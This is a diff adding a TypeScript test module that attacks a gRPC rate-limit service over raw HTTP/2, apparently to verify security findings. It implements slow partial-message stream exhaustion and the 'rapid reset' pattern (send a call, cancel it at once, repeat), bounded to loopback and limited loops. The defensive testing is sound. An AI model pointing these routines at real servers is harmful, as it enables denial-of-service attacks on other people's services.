@@ -1,0 +1,183 @@
+// Raw HTTP/2 attacks on the gRPC port (issue 18, findings 3 and 10), with node:http2 so that
+// the client can do what no gRPC library does: leave a message unfinished, or reset a call
+// right after sending it. Loopback only; every loop bounded in count and time.
+import * as http2 from 'node:http2';
+
+const METHOD_PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
+const HEADERS = {
+  ':method': 'POST',
+  ':path': METHOD_PATH,
+  'content-type': 'application/grpc',
+  te: 'trailers',
+};
+
+/** A gRPC length-prefixed message header: not compressed, `length` bytes follow. */
+function messagePrefix(length: number): Buffer {
+  const b = Buffer.alloc(5);
+  b.writeUInt32BE(length, 1);
+  return b;
+}
+
+function connect(port: number, host = '127.0.0.1', timeoutMs = 10_000): Promise<http2.ClientHttp2Session> {
+  return new Promise((resolve, reject) => {
+    const session = http2.connect(`http://${host}:${port}`);
+    const timer = setTimeout(() => {
+      session.destroy();
+      reject(new Error(`no SETTINGS from the server within ${timeoutMs} ms`));
+    }, timeoutMs);
+    session.once('close', () => clearTimeout(timer));
+    session.once('remoteSettings', () => clearTimeout(timer));
+    // Once the server's SETTINGS are in (its MAX_CONCURRENT_STREAMS among them): until then
+    // node assumes 100.
+    session.once('remoteSettings', () => resolve(session));
+    session.once('error', reject);
+    session.once('close', () => reject(new Error('closed before SETTINGS')));
+  });
+}
+
+const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+export interface PartialCallsOptions {
+  readonly port: number;
+  readonly connections: number;
+  readonly streamsPerConnection: number;
+  /** The message length the prefix declares... */
+  readonly declaredBytes: number;
+  /** ...and the bytes actually sent (fewer), never followed by END_STREAM. */
+  readonly sentBytes: number;
+  /** How long the streams are held open before the client closes everything. */
+  readonly holdMs: number;
+  /** Called once all streams were opened and written, and then every second while held. */
+  readonly onTick?: (elapsedMs: number) => void;
+}
+
+export interface PartialCallsResult {
+  /** Streams the client opened (Node's client opens no more than the server's SETTINGS allow). */
+  opened: number;
+  /** Streams the server closed (RST_STREAM, or an answer) before the client let go. */
+  closedByServer: number;
+  /** Connections the server closed or refused before the client let go. */
+  connectionsClosedByServer: number;
+  /** Connections that never came up (refused at once). */
+  connectionsRefused: number;
+  /** The server's SETTINGS_MAX_CONCURRENT_STREAMS, as the first connection saw it. */
+  maxConcurrentStreams: number | undefined;
+  /** Milliseconds from the first stream to the last one the server closed (0 if none). */
+  lastCloseMs: number;
+}
+
+/**
+ * Opens `connections` × `streamsPerConnection` ShouldRateLimit calls, each sending `sentBytes` of
+ * a `declaredBytes` message and never finishing it (finding 3), holds them for `holdMs`, then
+ * closes everything. A stream beyond the server's SETTINGS_MAX_CONCURRENT_STREAMS is not opened
+ * (its bytes would only pile up in this process): the server's bound is reported instead.
+ */
+export async function partialCalls(o: PartialCallsOptions): Promise<PartialCallsResult> {
+  const result: PartialCallsResult = {
+    opened: 0,
+    closedByServer: 0,
+    connectionsClosedByServer: 0,
+    connectionsRefused: 0,
+    maxConcurrentStreams: undefined,
+    lastCloseMs: 0,
+  };
+  const sessions: http2.ClientHttp2Session[] = [];
+  const payload = Buffer.concat([messagePrefix(o.declaredBytes), Buffer.alloc(o.sentBytes, 0x61)]);
+  let letGo = false;
+  const t0 = Date.now();
+  for (let c = 0; c < o.connections; c++) {
+    let session: http2.ClientHttp2Session;
+    try {
+      session = await connect(o.port);
+    } catch {
+      result.connectionsRefused++;
+      continue;
+    }
+    sessions.push(session);
+    session.on('error', () => {});
+    session.once('close', () => {
+      if (!letGo) result.connectionsClosedByServer++;
+    });
+    const allowed = Math.min(o.streamsPerConnection, session.remoteSettings.maxConcurrentStreams ?? o.streamsPerConnection);
+    result.maxConcurrentStreams ??= session.remoteSettings.maxConcurrentStreams;
+    for (let s = 0; s < allowed && !session.destroyed; s++) {
+      const stream = session.request(HEADERS, { endStream: false });
+      result.opened++;
+      stream.on('error', () => {});
+      stream.on('data', () => {});
+      stream.once('close', () => {
+        if (letGo) return;
+        result.closedByServer++;
+        result.lastCloseMs = Date.now() - t0;
+      });
+      stream.write(payload);
+    }
+  }
+  o.onTick?.(Date.now() - t0);
+  const until = t0 + o.holdMs;
+  while (Date.now() < until) {
+    await sleep(Math.min(1000, until - Date.now()));
+    o.onTick?.(Date.now() - t0);
+  }
+  letGo = true;
+  for (const s of sessions) s.destroy();
+  return result;
+}
+
+export interface RapidResetOptions {
+  readonly port: number;
+  /** The calls to send and reset on one connection (fewer if the server closes it). */
+  readonly calls: number;
+  /** One complete ShouldRateLimit request message (protobuf bytes). */
+  readonly request: Buffer;
+  readonly timeoutMs: number;
+}
+
+export interface RapidResetResult {
+  /** Calls sent and reset before the server closed the connection (or all of them). */
+  resets: number;
+  /** The server sent GOAWAY or closed the connection. */
+  closedByServer: boolean;
+  /** The GOAWAY's error code, if one came. */
+  goawayCode: number | undefined;
+  /** The last stream the GOAWAY says the server processed: about twice the calls it took. */
+  goawayLastStreamId: number | undefined;
+}
+
+/**
+ * Finding 10: on one connection, sends a complete call (HEADERS, the message, END_STREAM) and
+ * resets it with RST_STREAM(CANCEL) at once, `calls` times, without waiting for answers: the
+ * "rapid reset" pattern. Stops when the server closes the connection.
+ */
+export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult> {
+  const session = await connect(o.port);
+  const result: RapidResetResult = { resets: 0, closedByServer: false, goawayCode: undefined, goawayLastStreamId: undefined };
+  session.on('error', () => {});
+  session.once('goaway', (code: number, lastStreamId: number) => {
+    result.closedByServer = true;
+    result.goawayCode = code;
+    result.goawayLastStreamId = lastStreamId;
+  });
+  const closed = new Promise<void>((resolve) => session.once('close', () => resolve()));
+  session.once('close', () => (result.closedByServer = true));
+  const message = Buffer.concat([messagePrefix(o.request.length), o.request]);
+  const until = Date.now() + o.timeoutMs;
+  for (let i = 0; i < o.calls && !result.closedByServer && !session.destroyed && Date.now() < until; i++) {
+    let stream: http2.ClientHttp2Stream;
+    try {
+      stream = session.request(HEADERS, { endStream: false });
+    } catch {
+      break;
+    }
+    stream.on('error', () => {});
+    stream.end(message);
+    stream.close(http2.constants.NGHTTP2_CANCEL);
+    result.resets++;
+    // Let the frames go out in batches, as a real attacker's socket writes would.
+    if (i % 50 === 49) await new Promise((resolve) => setImmediate(resolve));
+  }
+  // Whatever the server still does about it (a GOAWAY in flight) arrives within this time.
+  await Promise.race([closed, sleep(1000)]);
+  session.destroy();
+  return result;
+}
